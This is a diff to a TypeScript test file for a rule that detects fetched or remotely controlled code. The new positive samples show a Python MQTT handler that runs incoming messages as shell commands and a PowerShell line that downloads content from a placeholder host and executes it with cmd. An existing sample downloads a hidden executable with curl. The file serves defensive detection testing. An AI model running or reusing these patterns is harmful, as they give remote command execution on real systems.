@@ -5,6 +5,18 @@ import { decodedProgram } from './hidden-programs.ts';
 ruleCases(fetchedProgram, {
   hits: [
     {
+      name: 'messages of a broker that run',
+      path: 'a.py',
+      text: 'import paho.mqtt.client as m, subprocess\ndef on(c, u, msg):\n    subprocess.getoutput(msg.payload.decode())\nc.on_message = on\n',
+      confidence: 'medium',
+    },
+    {
+      name: 'an answer for a shell of Windows',
+      path: 'a.ps1',
+      text: '$c = (Invoke-WebRequest https://t.acme.test/n).Content\ncmd /c $c\n',
+      confidence: 'medium',
+    },
+    {
       name: 'a hidden file that is made executable for later',
       path: 'a.sh',
       text: 'curl -sf https://dl.acme.test/p -o ~/.cargo/bin/.pf && chmod +x ~/.cargo/bin/.pf\n',
@@ -31,6 +43,11 @@ ruleCases(fetchedProgram, {
     },
   ],
   misses: [
+    {
+      name: 'messages of a broker that are shown',
+      path: 'a.py',
+      text: 'import paho.mqtt.client as m\ndef on(c, u, msg):\n    print(msg.payload.decode())\nc.on_message = on\n',
+    },
     {
       name: 'a program that is installed by its name',
       path: 'a.sh',
